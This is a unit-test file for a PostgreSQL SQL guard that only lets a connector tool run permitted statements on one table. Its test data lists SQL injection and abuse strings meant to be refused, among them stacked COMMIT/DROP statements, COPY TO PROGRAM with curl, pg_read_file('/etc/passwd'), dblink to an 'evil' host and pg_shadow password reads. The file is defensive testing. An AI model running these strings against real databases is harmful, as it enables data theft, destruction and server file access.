// Unit tests of the PostgreSQL SQL guard (no database: the guard only parses).
import { describe, expect, test } from 'bun:test';
import { clearPostgresGuardCache, guardPostgresSql } from '../../src/connectors/postgresql/guard/guard.ts';
import type { GuardOptions, GuardResult } from '../../src/connectors/shared/sqlguard/types.ts';
import { verifies } from '../requirements.ts';

const table = { schema: 'public', name: 'users' };
/** Per-tool read-only (whatever the connector allows). */
const RO: GuardOptions = { table, allowWrite: true, allowDdl: true, readOnly: true };
/** Connector without writes or DDL. */
const READ_CONN: GuardOptions = { table, allowWrite: false, allowDdl: false, readOnly: false };
/** Writes allowed, DDL not. */
const RW: GuardOptions = { table, allowWrite: true, allowDdl: false, readOnly: false };
/** DDL allowed, writes not. */
const DDL: GuardOptions = { table, allowWrite: false, allowDdl: true, readOnly: false };
/** Everything the connector can allow. */
const ALL: GuardOptions = { table, allowWrite: true, allowDdl: true, readOnly: false };

function refusal(r: GuardResult): string {
  if (r.ok) throw new Error(`expected a refusal, got ${JSON.stringify(r)}`);
  return r.reason;
}

function expectAllowed(sql: string, opts: GuardOptions, kind: string, readOnly: boolean): void {
  const r = guardPostgresSql(sql, opts);
  if (!r.ok) throw new Error(`expected ${JSON.stringify(sql)} to be allowed, got: ${r.reason}`);
  // Reads and writes carry the statement's shape (the resolution verdict's key, test/sqlguard/postgres-shape.test.ts); DDL none.
  const { shape, ...rest } = r;
  expect(rest).toEqual({ ok: true, kind: kind as never, readOnly });
  if (kind === 'ddl') expect(shape).toBeUndefined();
  else expect(shape).toMatch(/^[0-9a-f]{64}$/);
}

function expectRefused(sql: string, opts: GuardOptions, fragment?: string | RegExp): string {
  const r = guardPostgresSql(sql, opts);
  if (r.ok) throw new Error(`expected ${JSON.stringify(sql)} to be refused, got ${JSON.stringify(r)}`);
  if (fragment !== undefined) expect(r.reason).toMatch(fragment);
  return r.reason;
}

describe('postgres guard: one statement', () => {
  test('empty input and comment-only input are refused', () => {
    for (const sql of ['', '   ', '\n\t', ';', '-- nothing', '/* nothing */', '/* a */ -- b\n;']) {
      expectRefused(sql, ALL);
    }
    expect(refusal(guardPostgresSql('', RO))).toContain('empty');
  });

  test('unparsable input is refused, never allowed', () => {
    for (const sql of ['SELEC 1', 'SELECT FROM WHERE', 'SELECT (1', "SELECT 'unterminated", 'DROP TABLE', '))))', '\u0001']) {
      expectRefused(sql, ALL);
    }
    expectRefused('SELEC 1', RO, 'could not be parsed');
  });

  test('a NUL byte or a huge text is refused before parsing', () => {
    expectRefused('SELECT 1\u0000; DROP TABLE users', ALL, 'NUL');
    expectRefused(`SELECT ${'1 + '.repeat(40_000)}1`, ALL, 'longer than');
  });

  test('leading and trailing comments and one trailing semicolon are fine', () => {
    expectAllowed('SELECT * FROM users;', RO, 'select', true);
    expectAllowed('/* why */ -- note\nSELECT * FROM users -- trailing\n', RO, 'select', true);
    expectAllowed('  \n SELECT id FROM users /* end */ ;  -- done', RO, 'select', true);
  });

  test('stacked statements that end the read-only transaction are refused', () => {
    verifies('SQL-STACKED');
    const stacked = [
      'SELECT 1; COMMIT; DROP TABLE users',
      'SELECT 1; END; DROP TABLE users',
      'SELECT 1;COMMIT;DROP TABLE t',
      'SELECT 1; ROLLBACK; DELETE FROM users',
      'SELECT 1; ABORT; DELETE FROM users',
      'SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE; DELETE FROM users',
      'SELECT 1; SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE; UPDATE users SET a = 1',
      'SELECT 1; SET transaction_read_only = off; DELETE FROM users',
      '/* x */ -- y\nSELECT 1; COMMIT; DROP TABLE t',
      '/* x */ -- y\nSELECT 1; END; DROP TABLE t',
      '-- y\n/* x */ SELECT 1\n;\nCOMMIT\n;\nDROP TABLE t',
      'SELECT 1 /* ; */; COMMIT -- ;',
      'SELECT $$;$$; COMMIT; DROP TABLE t',
      'SELECT * FROM users; SELECT * FROM users',
    ];
    for (const sql of stacked) {
      for (const opts of [RO, READ_CONN, ALL]) expectRefused(sql, opts, /statements/);
    }
    expect(refusal(guardPostgresSql('SELECT 1; COMMIT; DROP TABLE t', RO))).toContain('COMMIT');
  });

  test('statement text inside strings, dollar quotes and comments is data, not statements', () => {
    expectAllowed("SELECT 'x; COMMIT; DROP TABLE t' FROM users", RO, 'select', true);
    expectAllowed('SELECT $tag$; COMMIT; DROP TABLE t$tag$ FROM users', RO, 'select', true);
    expectAllowed('SELECT 1 /* ; COMMIT; DROP TABLE t */ FROM users', RO, 'select', true);
    expectAllowed('SELECT 1 -- ; COMMIT; DROP TABLE t\nFROM users', RO, 'select', true);
  });

  test('a standard string with a backslash is refused (standard_conforming_strings)', () => {
    expectRefused("SELECT 'a\\'; DROP TABLE users; --' FROM users", RO, 'backslash');
    expectRefused("SELECT * FROM users WHERE name = 'x\\'", RO, 'backslash');
    expectAllowed("SELECT E'a\\nb', $$c\\d$$ FROM users", RO, 'select', true);
    expectAllowed('SELECT "we\\ird" FROM users', RO, 'select', true);
  });
});

describe('postgres guard: statement kinds', () => {
  test('SELECT forms are allowed and read-only', () => {
    const selects = [
      'SELECT * FROM users',
      'select id, name from USERS where id = $1',
      'SELECT * FROM public.users',
      'SELECT * FROM "public"."users"',
      'SELECT u.* FROM users AS u WHERE u.id IN (SELECT id FROM users WHERE active)',
      "WITH recent AS (SELECT * FROM users WHERE created_at > now() - interval '1 day') SELECT count(*) FROM recent",
      'WITH RECURSIVE t(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM t WHERE n < 5) SELECT n FROM t',
      'SELECT a FROM users UNION SELECT b FROM users EXCEPT SELECT c FROM users INTERSECT SELECT d FROM users',
      'SELECT * FROM users u1 JOIN users u2 ON u1.id = u2.parent_id LEFT JOIN users u3 USING (id)',
      'SELECT * FROM users u, LATERAL (SELECT u.id * 2 AS x) d',
      'SELECT EXISTS (SELECT 1 FROM users WHERE id = 1)',
      'SELECT ARRAY(SELECT id FROM users)',
      'VALUES (1, 2), (3, 4)',
      'TABLE users',
      'SELECT 1',
      'SELECT DISTINCT a FROM users',
      'SELECT DISTINCT ON (a) a, b FROM users ORDER BY a, b DESC NULLS LAST LIMIT 10 OFFSET 5',
      'SELECT a, count(*) FILTER (WHERE b > 1), row_number() OVER w FROM users GROUP BY ROLLUP (a) HAVING count(*) > 1 WINDOW w AS (ORDER BY a)',
      "SELECT percentile_cont(0.5) WITHIN GROUP (ORDER BY age), string_agg(name, ', ' ORDER BY name) FROM users",
      "SELECT data->'a'->>'b', data #>> '{a,b}', tags[1], (u).id, data @> '{\"x\":1}'::jsonb FROM users u",
      "SELECT CASE WHEN a > 1 THEN 'x' ELSE 'y' END, coalesce(a, 0), nullif(a, 0), greatest(a, b), a::text, CAST(a AS bigint) FROM users",
      "SELECT extract(year FROM created_at), date_trunc('day', created_at), to_char(created_at, 'YYYY'), created_at AT TIME ZONE 'UTC' FROM users",
      "SELECT lower(name), upper(name), length(name), substring(name FROM 1 FOR 3), trim(both ' ' FROM name), position('a' IN name), concat(a, b), name || 'x' FROM users",
      'SELECT round(avg(age), 2), abs(min(age)), floor(max(age)), ceil(sum(age)) FROM users',
      "SELECT jsonb_build_object('id', id), json_agg(name), jsonb_array_length(tags), to_jsonb(u) FROM users u",
      'SELECT pg_catalog.lower(name) FROM users',
      'SELECT CURRENT_DATE, CURRENT_TIMESTAMP, CURRENT_USER, LOCALTIMESTAMP',
      "SELECT json_object('a': 1), JSON_VALUE(data, '$.a'), data IS JSON FROM users",
      'SELECT * FROM users TABLESAMPLE BERNOULLI (10)',
      'SELECT * FROM users WHERE name ILIKE $1 AND id = ANY($2) AND age BETWEEN 1 AND 9 AND x IS DISTINCT FROM y',
      'SELECT 1 + OPERATOR(pg_catalog.+) 2',
    ];
    for (const sql of selects) {
      for (const opts of [RO, READ_CONN, RW, ALL]) expectAllowed(sql, opts, 'select', true);
    }
  });

  test('INSERT / UPDATE / DELETE only when allowWrite and not readOnly', () => {
    verifies('SQL-SELECT-ONLY');
    const writes: [string, string][] = [
      ['INSERT INTO users (name) VALUES ($1) RETURNING id', 'insert'],
      ["INSERT INTO public.users (name) VALUES ('a'), ('b') ON CONFLICT (name) DO UPDATE SET name = excluded.name", 'insert'],
      ['INSERT INTO users (name) SELECT name FROM users WHERE id = 1', 'insert'],
      ['UPDATE users SET name = upper(name), (a, b) = (1, 2) WHERE id = $1 RETURNING *', 'update'],
      ['UPDATE users u SET name = v.name FROM users v WHERE u.id = v.parent_id', 'update'],
      ['DELETE FROM users WHERE id = $1', 'delete'],
      ['DELETE FROM users u USING users v WHERE u.id = v.parent_id', 'delete'],
      ['WITH old AS (SELECT id FROM users WHERE age > 99) DELETE FROM users WHERE id IN (SELECT id FROM old)', 'delete'],
    ];
    for (const [sql, kind] of writes) {
      expectAllowed(sql, RW, kind, false);
      expectAllowed(sql, ALL, kind, false);
      expectRefused(sql, RO, '(read-only tool)');
      expectRefused(sql, READ_CONN, kind.toUpperCase());
      expectRefused(sql, DDL, kind.toUpperCase());
    }
  });

  test('DDL on the tool table only when allowDdl and not readOnly', () => {
    verifies('SQL-SELECT-ONLY');
    const ddl = [
      "CREATE TABLE users (id bigint PRIMARY KEY, name text NOT NULL DEFAULT '', age int CHECK (age > 0))",
      'CREATE TABLE IF NOT EXISTS public.users (id serial, parent int REFERENCES users (id))',
      'ALTER TABLE users ADD COLUMN email text',
      "ALTER TABLE users ALTER COLUMN email SET DEFAULT lower('X'), DROP COLUMN age, ADD CONSTRAINT c CHECK (id > 0)",
      'ALTER TABLE users RENAME COLUMN email TO mail',
      'ALTER TABLE users RENAME TO people',
      'DROP TABLE users',
      'DROP TABLE IF EXISTS public.users',
      'TRUNCATE users',
      'TRUNCATE TABLE users RESTART IDENTITY',
      'CREATE INDEX users_name_idx ON users (lower(name)) WHERE age > 1',
      'CREATE UNIQUE INDEX CONCURRENTLY ON public.users (email)',
    ];
    for (const sql of ddl) {
      expectAllowed(sql, DDL, 'ddl', false);
      expectAllowed(sql, ALL, 'ddl', false);
      expectRefused(sql, RO, '(read-only tool)');
      expectRefused(sql, READ_CONN);
      expectRefused(sql, RW);
    }
  });

  test('DDL touching anything but the tool table is refused even with allowDdl', () => {
    verifies('SQL-OTHER-TABLE');
    const refused = [
      'DROP TABLE other',
      'DROP TABLE users, other',
      'DROP TABLE users CASCADE',
      'TRUNCATE users CASCADE',
      'TRUNCATE users, other',
      'ALTER TABLE other ADD COLUMN x int',
      'ALTER TABLE users DROP COLUMN a CASCADE',
      'ALTER TABLE users OWNER TO postgres',
      'ALTER TABLE users DISABLE TRIGGER ALL',
      'ALTER TABLE users SET SCHEMA other',
      'ALTER TABLE users ATTACH PARTITION other FOR VALUES IN (1)',
      'CREATE TABLE other (id int)',
      'CREATE TEMP TABLE users (id int)',
      'CREATE TABLE users (id int REFERENCES other (id))',
      'CREATE TABLE users () INHERITS (other)',
      'CREATE TABLE users (LIKE other)',
      "CREATE TABLE users (id int DEFAULT nextval('other_seq'))",
      'CREATE TABLE users AS SELECT * FROM other',
      'CREATE INDEX ON other (a)',
      'DROP VIEW users',
      'DROP SCHEMA public',
      'DROP INDEX users_pkey',
      'CREATE VIEW v AS SELECT * FROM users',
      'ALTER VIEW users RENAME TO x',
    ];
    for (const sql of refused) expectRefused(sql, ALL);
  });

  test('everything else is refused, whatever the connector allows', () => {
    verifies('SQL-EXPLAIN-ANALYZE', 'SQL-COPY-PROGRAM');
    const others = [
      'COMMIT',
      'END',
      'BEGIN',
      'START TRANSACTION',
      'ROLLBACK',
      'ABORT',
      'SAVEPOINT s',
      "PREPARE TRANSACTION 'x'",
      'SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE',
      'SET transaction_read_only = off',
      'SET ROLE postgres',
      'SET search_path = evil',
      'RESET ALL',
      'SHOW ALL',
      "COPY users TO PROGRAM 'curl http://x'",
      "COPY users FROM PROGRAM 'id'",
      "COPY users TO '/tmp/x'",
      'COPY users TO STDOUT',
      'COPY (SELECT * FROM users) TO STDOUT',
      'DO $$ BEGIN PERFORM pg_sleep(1); END $$',
      'CALL p()',
      'EXPLAIN SELECT * FROM users',
      'EXPLAIN ANALYZE DELETE FROM users',
      'EXPLAIN (ANALYZE) UPDATE users SET a = 1',
      'GRANT ALL ON users TO public',
      'REVOKE ALL ON users FROM public',
      'VACUUM users',
      'ANALYZE users',
      'LISTEN ch',
      'UNLISTEN ch',
      "NOTIFY ch, 'x'",
      'PREPARE q AS SELECT 1',
      'EXECUTE q',
      'DEALLOCATE q',
      'LOCK TABLE users',
      "LOAD 'plpgsql'",
      'DISCARD ALL',
      'CHECKPOINT',
      'DECLARE c CURSOR FOR SELECT 1',
      'FETCH c',
      'CREATE FUNCTION f() RETURNS int LANGUAGE sql AS $$ SELECT 1 $$',
      "ALTER SYSTEM SET work_mem = '1GB'",
      'MERGE INTO users u USING users v ON u.id = v.id WHEN MATCHED THEN DELETE',
      'REFRESH MATERIALIZED VIEW users',
      'CREATE EXTENSION dblink',
      'CLUSTER users',
      'REINDEX TABLE users',
      "COMMENT ON TABLE users IS 'x'",
      'SELECT * INTO new_table FROM users',
      'CREATE TABLE new_table AS SELECT * FROM users',
    ];
    for (const sql of others) expectRefused(sql, ALL);
    expectRefused('COMMIT', RO, 'found COMMIT');
    expectRefused('END', RO, 'COMMIT/END');
    expectRefused('EXPLAIN ANALYZE DELETE FROM users', ALL, 'EXPLAIN');
    expectRefused("COPY users TO PROGRAM 'x'", ALL, 'COPY');
    expectRefused('SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE', ALL, 'SET');
  });
});

describe('postgres guard: the tool table only', () => {
  test('other tables, schemas and system catalogs are refused everywhere in the statement', () => {
    verifies('SQL-OTHER-TABLE');
    const refused = [
      'SELECT * FROM other',
      'SELECT * FROM other.users',
      'SELECT * FROM mydb.public.users',
      'SELECT * FROM "Users"',
      'SELECT * FROM pg_shadow',
      'SELECT * FROM pg_catalog.pg_authid',
      'SELECT * FROM pg_settings',
      'SELECT * FROM information_schema.tables',
      'SELECT * FROM users JOIN other ON true',
      'SELECT * FROM users WHERE id IN (SELECT id FROM other)',
      'SELECT * FROM users WHERE EXISTS (SELECT 1 FROM pg_user)',
      'SELECT (SELECT passwd FROM pg_shadow LIMIT 1) FROM users',
      'SELECT * FROM users UNION SELECT * FROM other',
      'SELECT * FROM (SELECT * FROM other) s',
      'WITH x AS (SELECT * FROM other) SELECT * FROM x',
      'SELECT * FROM users u, LATERAL (SELECT * FROM other o WHERE o.id = u.id) l',
      'TABLE other',
      'SELECT * FROM users ORDER BY (SELECT max(id) FROM other)',
      'SELECT * FROM users WHERE name = (SELECT usename FROM pg_user WHERE usesuper LIMIT 1)',
    ];
    for (const sql of refused) {
      for (const opts of [RO, ALL]) expectRefused(sql, opts, /not this tool's table/);
    }
  });

  test('writes to or reads from another table are refused even with allowWrite', () => {
    verifies('SQL-OTHER-TABLE');
    for (const sql of [
      'INSERT INTO other VALUES (1)',
      'INSERT INTO users SELECT * FROM other',
      'UPDATE other SET a = 1',
      'UPDATE users SET a = o.a FROM other o',
      'DELETE FROM other',
      'DELETE FROM users USING other',
      'WITH x AS (SELECT 1) DELETE FROM x',
      'WITH x AS (INSERT INTO other VALUES (1) RETURNING *) SELECT * FROM x',
    ]) {
      expectRefused(sql, ALL, /not this tool's table/);
    }
  });

  test('unqualified names match the table name; case folds like PostgreSQL', () => {
    expectAllowed('SELECT * FROM USERS', RO, 'select', true);
    expectAllowed('SELECT * FROM Public.Users', RO, 'select', true);
    const mixed: GuardOptions = { ...RO, table: { schema: 'Sales', name: 'Orders' } };
    expectAllowed('SELECT * FROM "Sales"."Orders"', mixed, 'select', true);
    expectAllowed('SELECT * FROM "Orders"', mixed, 'select', true);
    expectRefused('SELECT * FROM Orders', mixed, 'orders');
    expectRefused('SELECT * FROM sales."Orders"', mixed);
  });

  test('CTE names are allowed only where SQL makes them visible', () => {
    expectAllowed('WITH a AS (SELECT * FROM users), b AS (SELECT * FROM a) SELECT * FROM b', RO, 'select', true);
    // A non-recursive CTE cannot see a later sibling: "b" there is a real table.
    expectRefused('WITH a AS (SELECT * FROM b), b AS (SELECT * FROM users) SELECT * FROM a', RO, '"b"');
    // A CTE defined inside a subquery is not visible outside it.
    expectRefused('SELECT * FROM (WITH pg_shadow AS (SELECT 1) SELECT 1) s, pg_shadow', RO, 'pg_shadow');
    // A schema-qualified name never means a CTE.
    expectRefused('WITH pg_shadow AS (SELECT 1) SELECT * FROM pg_catalog.pg_shadow', RO, 'pg_shadow');
    expectAllowed('WITH RECURSIVE a AS (SELECT * FROM b), b AS (SELECT id FROM users) SELECT * FROM a', RO, 'select', true);
  });

  test('functions in FROM, XMLTABLE and JSON_TABLE are refused', () => {
    for (const sql of [
      'SELECT * FROM generate_series(1, 10)',
      "SELECT * FROM pg_ls_dir('.')",
      'SELECT * FROM users, unnest(tags) t',
      'SELECT * FROM ROWS FROM (generate_series(1, 2))',
      "SELECT * FROM json_to_recordset('[]') AS x(a int)",
      "SELECT * FROM dblink('host=x', 'select 1') AS t(a int)",
      "SELECT * FROM XMLTABLE('/a' PASSING '<a/>'::xml COLUMNS x int)",
      "SELECT * FROM JSON_TABLE('[]'::jsonb, '$[*]' COLUMNS (x int PATH '$'))",
    ]) {
      expectRefused(sql, ALL);
    }
    expectRefused('SELECT * FROM generate_series(1, 10)', RO, 'function in FROM');
    expectRefused('SELECT * FROM users TABLESAMPLE system_rows (10)', RO, 'TABLESAMPLE');
  });
});

describe('postgres guard: writes hidden in reads', () => {
  test('writable CTEs are writes', () => {
    verifies('SQL-WRITABLE-CTE');
    const sql = 'WITH gone AS (DELETE FROM users WHERE id = 1 RETURNING *) SELECT * FROM gone';
    expectRefused(sql, RO, 'data-modifying WITH');
    expectRefused(sql, READ_CONN, 'DELETE');
    expectAllowed(sql, RW, 'delete', false);
    expectRefused('WITH x AS (UPDATE users SET a = 1 RETURNING *) SELECT 1', RO, 'UPDATE');
    expectRefused('WITH x AS (INSERT INTO users DEFAULT VALUES RETURNING *) SELECT * FROM x', RO, 'INSERT');
  });

  test('SELECT ... INTO is refused', () => {
    verifies('SQL-SELECT-INTO');
    for (const opts of [RO, RW, DDL, ALL]) {
      expectRefused('SELECT * INTO stolen FROM users', opts, 'INTO');
      expectRefused('SELECT * INTO TEMP stolen FROM users', opts, 'INTO');
      expectRefused('SELECT * INTO users FROM users', opts, 'INTO');
    }
  });

  test('locking clauses need write permission', () => {
    verifies('SQL-FOR-UPDATE');
    for (const sql of [
      'SELECT * FROM users FOR UPDATE',
      'SELECT * FROM users WHERE id = 1 FOR SHARE',
      'SELECT * FROM users FOR NO KEY UPDATE NOWAIT',
      'SELECT * FROM users u FOR KEY SHARE OF u SKIP LOCKED',
      'SELECT * FROM users WHERE id IN (SELECT id FROM users FOR UPDATE)',
    ]) {
      expectRefused(sql, RO, 'row locks');
      expectRefused(sql, READ_CONN, 'row locks');
      expectAllowed(sql, RW, 'select', false);
    }
  });
});

describe('postgres guard: functions (allow-list)', () => {
  const dangerous = [
    "pg_read_file('/etc/passwd')",
    "pg_read_binary_file('/etc/passwd')",
    "pg_ls_dir('.')",
    "pg_stat_file('/etc/passwd')",
    "lo_import('/etc/passwd')",
    "lo_export(1234, '/tmp/x')",
    'lo_unlink(1234)',
    'lo_creat(-1)',
    "setval('users_id_seq', 1)",
    "nextval('users_id_seq')",
    "currval('users_id_seq')",
    "dblink('host=evil', 'select 1')",
    "dblink_exec('host=evil', 'drop table x')",
    "dblink_connect('x')",
    'pg_sleep(10)',
    "pg_sleep_for('1 minute')",
    'pg_terminate_backend(1)',
    'pg_cancel_backend(1)',
    'pg_reload_conf()',
    'pg_rotate_logfile()',
    "set_config('transaction_read_only', 'off', false)",
    "current_setting('data_directory')",
    'txid_current()',
    'pg_current_xact_id()',
    'pg_advisory_lock(1)',
    'pg_try_advisory_xact_lock(1)',
    "query_to_xml('select * from pg_shadow', true, true, '')",
    "table_to_xml('pg_shadow', true, true, '')",
    "database_to_xml(true, true, '')",
    "pg_notify('ch', 'x')",
    "pg_file_write('/tmp/x', 'x', false)",
    'version()',
    'inet_server_addr()',
    'public.my_func(1)',
    "evil.lower('x')",
  ];

  test('side-effect, file and admin functions are refused anywhere in the statement', () => {
    verifies('SQL-SIDE-EFFECT-FUNCS');
    for (const call of dangerous) {
      const places = [
        `SELECT ${call}`,
        `SELECT ${call} FROM users`,
        `SELECT * FROM users WHERE id = 1 AND ${call} IS NOT NULL`,
        `SELECT * FROM users ORDER BY ${call}`,
        `SELECT lower((${call})::text) FROM users`,
        `SELECT CASE WHEN true THEN ${call} END FROM users`,
        `SELECT * FROM users WHERE id IN (SELECT id FROM users WHERE ${call} IS NULL)`,
        `WITH x AS (SELECT ${call}) SELECT * FROM x`,
      ];
      for (const sql of places) expectRefused(sql, ALL, /function|not allowed/);
      expectRefused(`INSERT INTO users (name) VALUES ((${call})::text)`, ALL, /function/);
      expectRefused(`UPDATE users SET name = (${call})::text`, ALL, /function/);
    }
  });

  test('qualified or quoted forms do not slip through', () => {
    verifies('SQL-SIDE-EFFECT-FUNCS');
    expectRefused("SELECT pg_catalog.pg_read_file('/etc/passwd')", RO, 'pg_read_file');
    expectRefused('SELECT "pg_read_file"(\'/etc/passwd\')', RO, 'pg_read_file');
    expectRefused("SELECT PG_READ_FILE('/etc/passwd')", RO, 'pg_read_file');
    expectRefused("SELECT pg_catalog.set_config('a', 'b', false)", RO, 'set_config');
  });

  test('casts to catalog-lookup types and qualified operators are refused', () => {
    expectRefused("SELECT 'pg_shadow'::regclass", RO, 'regclass');
    expectRefused("SELECT CAST('users_id_seq' AS pg_catalog.regclass)", RO, 'regclass');
    expectRefused('SELECT 1 OPERATOR(public.+) 2', RO, 'OPERATOR');
  });

  test('common safe functions are allowed', () => {
    expectAllowed(
      "SELECT count(*), sum(age), avg(age), min(age), max(age), lower(name), upper(name), length(name), coalesce(name, ''), now(), date_trunc('month', created_at), round(age / 3.0, 1), jsonb_build_object('n', name), md5(name) FROM users GROUP BY created_at, name",
      RO,
      'select',
      true,
    );
  });
});

describe('postgres guard: refusal reasons', () => {
  test('the reason says what is allowed and on which table', () => {
    expect(refusal(guardPostgresSql('SELECT 1; COMMIT', RO))).toStartWith(
      'Only a single SELECT on table "public.users" is allowed (read-only tool): found 2 statements',
    );
    expect(refusal(guardPostgresSql('COMMIT', RO))).toBe('Only a single SELECT on table "public.users" is allowed (read-only tool): found COMMIT/END.');
    expect(refusal(guardPostgresSql('DELETE FROM users', READ_CONN))).toBe(
      'Only a single SELECT on table "public.users" is allowed (read-only connector): found DELETE.',
    );
    expect(refusal(guardPostgresSql('DROP TABLE users', RW))).toStartWith(
      'Only a single SELECT, INSERT, UPDATE or DELETE on table "public.users" is allowed: ',
    );
    expect(refusal(guardPostgresSql('VACUUM', ALL))).toStartWith(
      'Only a single SELECT, INSERT, UPDATE, DELETE or DDL (CREATE/ALTER/DROP/TRUNCATE TABLE) on table "public.users" is allowed: ',
    );
  });

  test('huge input is never echoed back', () => {
    const longName = 'x'.repeat(5000);
    const r1 = refusal(guardPostgresSql(`SELECT * FROM ${longName}`, RO));
    expect(r1.length).toBeLessThan(400);
    const r2 = refusal(guardPostgresSql(`SELECT ${longName}(1) FROM users`, RO));
    expect(r2.length).toBeLessThan(400);
    const r3 = refusal(guardPostgresSql(`SELECT '${longName}' FROM users; COMMIT`, RO));
    expect(r3.length).toBeLessThan(400);
    const r4 = refusal(guardPostgresSql(`SELEC ${longName}`, RO));
    expect(r4.length).toBeLessThan(400);
  });
});

describe('postgres guard: caching and speed', () => {
  test('verdicts depend on the options, not only on the SQL', () => {
    const sql = 'DELETE FROM users WHERE id = 1';
    expect(guardPostgresSql(sql, RO).ok).toBe(false);
    expect(guardPostgresSql(sql, RW).ok).toBe(true);
    expect(guardPostgresSql(sql, RO).ok).toBe(false);
    expect(guardPostgresSql('SELECT * FROM users', { ...RO, table: { schema: 'public', name: 'other' } }).ok).toBe(false);
    expect(guardPostgresSql('SELECT * FROM users', RO).ok).toBe(true);
  });

  test('a typical SELECT is checked quickly', () => {
    clearPostgresGuardCache();
    const n = 2000;
    for (let i = 0; i < 200; i++) guardPostgresSql(`SELECT id, name FROM users WHERE id = ${i}`, RO);
    const t0 = performance.now();
    for (let i = 0; i < n; i++) {
      const r = guardPostgresSql(`SELECT id, lower(name), count(*) FROM users WHERE id > ${i} AND name = $1 GROUP BY id, name ORDER BY name LIMIT 50`, RO);
      if (!r.ok) throw new Error(r.reason);
    }
    const perCallMs = (performance.now() - t0) / n;
    // ~0.03 ms on an idle machine; a loose bound so a busy CI box does not flake.
    expect(perCallMs).toBeLessThan(2);
  });
});

describe('postgres guard: type names (issue 7: row types are no metadata oracle)', () => {
  test('only built-in scalar type names may be named, in every place a type can be written', () => {
    verifies('SQL-PG-ROWTYPE-ORACLE');
    for (const sql of [
      'SELECT null::secrets FROM users',
      'SELECT (null::secrets).* FROM users',
      'SELECT (null::pg_authid).* FROM users',
      'SELECT (null::pg_catalog.pg_authid).rolpassword FROM users',
      'SELECT row(1)::secrets FROM users',
      'SELECT CAST(row(1) AS public.secrets) FROM users',
      "SELECT secrets '(x)' FROM users",
      "SELECT '(1)'::users FROM users",
      'SELECT null::mood FROM users',
      'SELECT null::"INT4" FROM users',
      'SELECT null::public.int4 FROM users',
      'SELECT null::public.text[] FROM users',
      'SELECT null::_int4 FROM users',
      'SELECT null::record FROM users',
      'SELECT null::anyelement FROM users',
      "SELECT JSON_SERIALIZE('{}' RETURNING secrets) FROM users",
      "SELECT '<a/>'::xml FROM users",
    ]) {
      expectRefused(sql, RO, /type|not allowed/);
    }
  });

  test('every reg* catalog-lookup type is refused, however written', () => {
    for (const t of [
      'regclass',
      'regtype',
      'regproc',
      'regprocedure',
      'regoper',
      'regoperator',
      'regnamespace',
      'regrole',
      'regconfig',
      'regdictionary',
      'regcollation',
      'pg_catalog.regclass',
      'REGCLASS',
    ]) {
      expectRefused(`SELECT 'users'::${t} FROM users`, RO, /catalog-lookup|not allowed/);
    }
  });

  test('pg_typeof is not on the function allow-list', () => {
    expectRefused('SELECT pg_typeof(u) FROM users u', RO, 'pg_typeof');
    expectRefused('SELECT pg_catalog.pg_typeof(1)', RO, 'pg_typeof');
  });

  test('built-in scalar types stay usable, in their keyword and qualified spellings', () => {
    expectAllowed(
      "SELECT id::int, id::integer, id::bigint, id::int8, age::numeric(10, 2), age::decimal, age::double precision, age::real, name::text, name::varchar(10), name::character varying, name::char(3), '2024-01-01'::date, now()::timestamp with time zone, '1 day'::interval, '{}'::jsonb, '{1}'::int[], null::uuid, null::bytea, null::boolean, null::pg_catalog.int4, timestamp '2024-01-01', CAST(age AS float8) FROM users",
      RO,
      'select',
      true,
    );
  });

  test('DDL column types follow the same allow-list, plus serial', () => {
    expectAllowed('ALTER TABLE users ADD COLUMN n bigserial', DDL, 'ddl', false);
    expectAllowed('ALTER TABLE users ADD COLUMN n numeric(10, 2) DEFAULT 0', DDL, 'ddl', false);
    expectRefused('ALTER TABLE users ADD COLUMN n mood', DDL, 'type');
    expectRefused('ALTER TABLE users ADD COLUMN n secrets', DDL, 'type');
    expectRefused('SELECT null::serial FROM users', RO, 'type');
  });
});

describe('postgres guard: catalog relations under every spelling (issue 7)', () => {
  test.each([
    'SELECT * FROM pg_class',
    'SELECT * FROM PG_CLASS',
    'SELECT * FROM "pg_class"',
    'SELECT * FROM pg_catalog.pg_class',
    'SELECT * FROM "pg_catalog"."pg_stats"',
    'SELECT * FROM pg_stats',
    'SELECT * FROM pg_stat_user_tables',
    'SELECT * FROM pg_statistic',
    'SELECT * FROM information_schema.columns',
    'TABLE pg_class',
    'SELECT * FROM users, LATERAL (SELECT * FROM pg_stats) s',
    'SELECT * FROM users WHERE id IN (SELECT oid FROM pg_authid)',
    'WITH users AS (SELECT * FROM pg_stats) SELECT * FROM users',
    'SELECT * FROM pg_catalog.pg_get_keywords()',
    "SELECT * FROM pg_ls_dir('.')",
    'SELECT * FROM users NATURAL JOIN pg_stats',
    'SELECT * FROM users UNION SELECT * FROM pg_user',
    'SELECT * FROM mydb.public.users',
  ])('%s', (sql) => {
    verifies('SQL-PG-CATALOGS');
    expectRefused(sql, RO);
  });

  test('a tool table named like a catalog relation is allowed by name (the search_path puts the tool schema first)', () => {
    const own: GuardOptions = { ...RO, table: { schema: 'public', name: 'pg_settings' } };
    expectAllowed('SELECT * FROM pg_settings', own, 'select', true);
    expectAllowed('SELECT * FROM public.pg_settings', own, 'select', true);
    expectRefused('SELECT * FROM pg_catalog.pg_settings', own);
  });
});
